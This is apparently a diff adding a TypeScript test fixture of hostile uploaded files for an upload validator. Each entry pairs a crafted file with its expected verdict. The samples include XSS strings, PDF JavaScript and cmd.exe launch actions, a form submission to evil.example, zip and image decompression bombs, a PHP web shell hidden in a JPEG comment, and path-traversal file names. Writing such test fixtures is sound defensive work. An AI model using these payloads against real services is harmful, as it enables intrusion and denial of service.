@@ -1,0 +1,124 @@
+import { crc32, deflateRawSync, deflateSync } from 'node:zlib'
+import { jpeg, png } from '../../users/testing/pictures.ts'
+
+export interface HostileFile {
+  what: string
+  name: string
+  type: string
+  bytes: Buffer
+  /** What the service says to it; `kept` when it is harmless once something is gone. */
+  answer: string
+  /** What is not in what is kept. */
+  gone?: string
+  /** The name that it is kept by. */
+  keptAs?: string
+}
+
+const pdfType = 'application/pdf'
+const script = '<script>alert(1)</script>'
+const join = (...parts: (string | Buffer)[]) =>
+  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)))
+const pdf = (...objects: (string | Buffer)[]) => join('%PDF-1.7\n', ...objects, '\n%%EOF\n')
+const objectStream = (text: string) => join('<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>\nstream\n', deflateSync(text), '\nendstream')
+
+/** An archive of one file. */
+function zip(content: Buffer, comment = ''): Buffer {
+  const packed = deflateRawSync(content)
+  const local = Buffer.alloc(30)
+  local.write('PK\x03\x04', 'latin1')
+  local.writeUInt16LE(8, 8)
+  local.writeUInt32LE(packed.length, 18)
+  local.writeUInt32LE(content.length, 22)
+  local.writeUInt16LE(1, 26)
+  const central = Buffer.alloc(46)
+  central.write('PK\x01\x02', 'latin1')
+  central.writeUInt16LE(1, 28)
+  const end = Buffer.alloc(22)
+  end.write('PK\x05\x06', 'latin1')
+  end.writeUInt16LE(comment.length, 20)
+  return join(local, 'a', packed, central, 'a', end, comment)
+}
+
+/** A PNG of few bytes that says it is as large. */
+function hugePng(width: number, height: number): Buffer {
+  const bytes = png(1, 1)
+  bytes.writeUInt32BE(width, 16)
+  bytes.writeUInt32BE(height, 20)
+  bytes.writeUInt32BE(crc32(bytes.subarray(12, 29)), 29)
+  return bytes
+}
+
+const heic = join('\0\0\0\x18ftypheic', Buffer.alloc(16))
+const asPdf = (what: string, bytes: Buffer, answer: string): HostileFile => ({ what, name: 'diploma.pdf', type: pdfType, bytes, answer })
+const asPng = (what: string, bytes: Buffer, answer: string): HostileFile => ({ what, name: 'rg.png', type: 'image/png', bytes, answer })
+const asJpeg = (what: string, bytes: Buffer, answer: string): HostileFile => ({ what, name: 'rg.jpg', type: 'image/jpeg', bytes, answer })
+const byName = (what: string, name: string, answer: string, keptAs?: string): HostileFile => ({
+  what,
+  name,
+  type: pdfType,
+  bytes: pdf('1'),
+  answer,
+  ...(keptAs && { keptAs }),
+})
+
+export const hostileFiles: HostileFile[] = [
+  asPdf('a page by the name of a document', Buffer.from(`<html>${script}</html>`), 'FILE_TYPE'),
+  asPdf('a picture by the name of a document', png(7, 8), 'FILE_TYPE'),
+  asPdf('a program by the name of a document', join('MZ\x90\0', Buffer.alloc(500)), 'FILE_TYPE'),
+  asPdf('an archive by the name of a document', zip(Buffer.from('x')), 'FILE_TYPE'),
+  asPdf('an archive that swells a thousandfold', zip(Buffer.alloc(50_000_000)), 'FILE_TYPE'),
+  asPdf('half a document', Buffer.from('%PDF-1.7\n1 0 obj'), 'FILE_TYPE'),
+  asPdf('a page before a document', join(`<html>${script}</html>\n`, pdf('1')), 'FILE_TYPE'),
+  asPdf('a page behind a document', join(pdf('1'), `<html>${script}</html>`), 'FILE_TYPE'),
+  asPdf('an archive behind a document', join(pdf('1'), zip(Buffer.from('x'))), 'FILE_TYPE'),
+  asPdf('a document that is an archive too', join('%PDF-1.7\n', zip(Buffer.from('x'), '\n%%EOF\n')), 'FILE_TYPE'),
+  asPdf('a document with a script', pdf('<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>'), 'FILE_ACTIVE'),
+  asPdf('a script by an escaped name', pdf('<</S/J#61vaScript/JS(1)>>'), 'FILE_ACTIVE'),
+  asPdf('a script in a stream of objects', pdf(objectStream('1 0 <</S/JavaScript/JS(1)>>')), 'FILE_ACTIVE'),
+  asPdf('a stream of objects that swells', pdf(objectStream(' '.repeat(40_000_000))), 'FILE_ACTIVE'),
+  asPdf('a document that starts a program', pdf('<</S/Launch/F(cmd.exe)>>'), 'FILE_ACTIVE'),
+  asPdf('a document that carries a file', pdf('<</Type/EmbeddedFile>>'), 'FILE_ACTIVE'),
+  asPdf('a document that submits a form', pdf('<</S/SubmitForm/F(https://evil.example)>>'), 'FILE_ACTIVE'),
+  asPdf('a document that opens another one', pdf('<</S/GoToE/F(other.pdf)>>'), 'FILE_ACTIVE'),
+  asPdf('a document with a form of another language', pdf('<</AcroForm<</XFA 3 0 R>>>>'), 'FILE_ACTIVE'),
+  {
+    what: 'a drawing with a script',
+    name: 'rg.svg',
+    type: 'image/svg+xml',
+    bytes: Buffer.from(`<svg>${script}</svg>`),
+    answer: 'FILE_TYPE',
+  },
+  asPng(
+    'a drawing with a script that says it is a PNG',
+    Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`),
+    'FILE_TYPE',
+  ),
+  asPng('a page behind the first bytes of a PNG', join(png(7, 8).subarray(0, 8), script), 'FILE_TYPE'),
+  asPng('a picture of 200 megapixels in a kilobyte', hugePng(20_000, 10_000), 'FILE_PIXELS'),
+  asPng('a JPEG by the name of a PNG', jpeg(7, 8), 'FILE_TYPE'),
+  asPng('half a PNG', png(700, 800).subarray(0, 200), 'FILE_TYPE'),
+  asPng('a PNG of another size than its sum says', join(png(7, 8).subarray(0, 16), '\0\0\x03\0', png(7, 8).subarray(20)), 'FILE_TYPE'),
+  { ...asPng('a page behind a PNG', join(png(7, 8), script), 'kept'), gone: 'script' },
+  { ...asPng('an archive behind a PNG', join(png(7, 8), zip(Buffer.from('x'))), 'kept'), gone: 'PK\x05\x06' },
+  { ...asPng('a page in what a PNG notes', png(7, 8, [['tEXt', Buffer.from(script)]]), 'kept'), gone: 'script' },
+  {
+    ...asPng('a colour profile that swells', png(7, 8, [['iCCP', join('icc\0\0', deflateSync(Buffer.alloc(40_000_000)))]]), 'kept'),
+    gone: 'iCCP',
+  },
+  asJpeg('a page by the name of a JPEG', Buffer.from(`<html>${script}</html>`), 'FILE_TYPE'),
+  asJpeg('a GIF by the name of a JPEG', join('GIF89a/*', Buffer.alloc(64), `*/=1;alert(1)`), 'FILE_TYPE'),
+  asJpeg('a JPEG of two sizes', join(jpeg(7, 8).subarray(0, -2), jpeg(7000, 8000).subarray(2)), 'FILE_TYPE'),
+  asJpeg('a JPEG of four thousand megapixels', jpeg(65_000, 65_000), 'FILE_PIXELS'),
+  asJpeg('a picture of an iPhone by the name of a JPEG', heic, 'FILE_HEIC'),
+  { ...asJpeg('a program in a JPEG’s comment', jpeg(7, 8, [[0xfe, Buffer.from('<?php system($_GET[1]) ?>')]]), 'kept'), gone: 'php' },
+  { what: 'a picture of an iPhone', name: 'IMG_1.HEIC', type: 'image/heic', bytes: heic, answer: 'FILE_HEIC' },
+  byName('two extensions', 'diploma.pdf.exe', 'FILE_TYPE'),
+  byName('an extension behind a NUL', 'diploma.exe\0.pdf.js', 'FILE_TYPE'),
+  byName('a name that reads backwards', 'diploma\u202efdp.exe', 'FILE_TYPE'),
+  byName('no name but an extension', '.pdf', 'FILE_TYPE'),
+  byName('a name that leaves its folder', '../../../etc/passwd.pdf', 'kept', 'passwd.pdf'),
+  byName('a name from another system', String.raw`C:\Windows\system.pdf`, 'kept', 'system.pdf'),
+  byName('a name with lines of their own', 'a\r\nset-cookie: x=1.pdf', 'kept', 'aset-cookie: x=1.pdf'),
+  byName('a name of 255 bytes', `${'a'.repeat(251)}.pdf`, 'kept', `${'a'.repeat(196)}.pdf`),
+  byName('a name of markup', '<img src=x onerror=alert(1)>.pdf', 'kept', '<img src=x onerror=alert(1)>.pdf'),
+]
